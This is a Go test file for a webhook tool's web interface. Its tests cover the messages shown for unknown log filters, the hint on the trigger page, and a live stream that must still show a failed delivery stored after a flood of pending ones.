func TestLogUnknownChoiceSaysWhy(t *testing.T) {
	t.Parallel()
	_, srv, _ := newHandler(t)
	for q, want := range map[string]string{
		"status=ok":        `unknown status &#34;ok&#34;: use one of pending, succeeded, failed`,
		"source=sent":      `unknown source &#34;sent&#34;: use one of triggered, received, check`,
		"provider=paypal":  `unknown provider &#34;paypal&#34;: use one of bond`,
		"status=succeeded": `No deliveries match these filters`,
	} {
		req, _ := http.NewRequest("GET", srv.URL+"/?"+q, nil)
		code, page, _ := send(t, req)
		if code != http.StatusOK || !strings.Contains(page, want) {
			i := strings.Index(page, `id="empty"`)
			t.Errorf("/?%s: %d, want %q in the page; it says %.300s", q, code, want, page[max(i, 0):])
		}
	}
}

// The Trigger page before a type is chosen says what to type: it was an
// empty field and a Preview button, the catalog's names only in a list
// that opens on typing.
func TestTriggerPageSaysWhatToType(t *testing.T) {
	t.Parallel()
	_, srv, _ := newHandler(t)
	req, _ := http.NewRequest("GET", srv.URL+"/trigger", nil)
	_, page, _ := send(t, req)
	for _, want := range []string{`data-testid="trigger-hint"`, `<a href="/trigger?type=bond:card.created">bond:card.created</a>`, "hookctl events list"} {
		if !strings.Contains(page, want) {
			t.Errorf("/trigger does not say %q", want)
		}
	}
	req, _ = http.NewRequest("GET", srv.URL+"/trigger?type=bond:card.created", nil)
	if _, page, _ = send(t, req); strings.Contains(page, `data-testid="trigger-hint"`) {
		t.Errorf("the hint stays once a type is previewed")
	}
}

// A live log filtered on a final status and a type (status=failed&type=…) reads at most five
// pages of new deliveries per tick. When all of them were still pending,
// it moved its cursor to the newest delivery, past the rows it had not
// read yet: a failed delivery stored after a flood of pending ones never
// came. The cursor moves to the newest only once the reads caught up.
func TestLiveStatusFilterFloodDoesNotSkip(t *testing.T) {
	t.Parallel()
	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	srv := httptest.NewUnstartedServer(nil)
	h, err := web.New(web.Config{Store: st, Addr: srv.Listener.Addr().String(), Poll: 300 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	srv.Config.Handler = h
	srv.Start()
	defer srv.Close()
	// Generous: the stream is read until the failed delivery comes (under
	// -race on a loaded machine 4 s did not cover storing the flood).
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, "GET", srv.URL+"/live?status=failed&type=card.created", nil)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	br := bufio.NewReader(resp.Body)
	for { // the stream has started: its cursor is set
		line, err := br.ReadString('\n')
		if err != nil {
			t.Fatal(err)
		}
		if strings.HasPrefix(line, "event: hello") {
			break
		}
	}
	const flood = 5200 // more than a tick's five pages of 1000
	later := time.Now().Add(time.Hour)
	pend := make([]*store.Delivery, flood)
	for i := range pend {
		pend[i] = &store.Delivery{URL: "http://127.0.0.1:9/x", Scheme: "bond", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
			Status: store.DeliveryPending, MaxAttempts: 5, Schedule: "0s,1h", NextAttemptAt: later}
	}
	if err := st.CreateEvent(context.Background(), &store.Event{Type: "card.created", Provider: "bond", Payload: []byte(`{}`), ContentType: "application/json"}, pend); err != nil {
		t.Fatal(err)
	}
	failed := &store.Delivery{URL: "http://127.0.0.1:9/x", Scheme: "bond", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
		Status: store.DeliveryFailed, AttemptCount: 1, MaxAttempts: 1, Schedule: "0s"}
	if err := st.CreateEvent(context.Background(), &store.Event{Type: "card.created", Provider: "bond", Payload: []byte(`{}`), ContentType: "application/json"}, []*store.Delivery{failed}); err != nil {
		t.Fatal(err)
	}
	for { // until it comes, or the timeout
		line, err := br.ReadString('\n')
		if strings.Contains(line, failed.ID) {
			return
		}
		if err != nil {
			t.Fatalf("failed delivery %s, stored after %d pending ones, never came on a status=failed&type=card.created stream (%v)", failed.ID, flood, err)
		}
	}
}
